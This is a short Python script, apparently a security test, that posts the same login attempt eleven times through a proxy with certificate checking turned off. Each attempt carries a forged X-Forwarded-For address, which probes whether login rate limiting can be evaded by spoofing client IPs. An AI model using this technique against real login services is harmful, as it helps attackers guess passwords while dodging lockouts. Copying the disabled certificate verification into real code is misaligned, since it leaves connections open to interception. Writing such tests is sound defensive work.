"""Guess a password again and again through the proxy, each time with another forged address."""

import http.client
import json
import ssl

nobody = ssl.create_default_context()
nobody.check_hostname, nobody.verify_mode = False, ssl.CERT_NONE
guess = json.dumps({"email": "nobody@example.org", "password": "guessed by somebody"})
for number in range(11):
    line = http.client.HTTPSConnection("proxy", context=nobody)
    said = {"Content-Type": "application/json", "X-Forwarded-For": f"203.0.113.{number}"}
    line.request("POST", "/api/v1/auth/login", guess, said)
    print(line.getresponse().status)
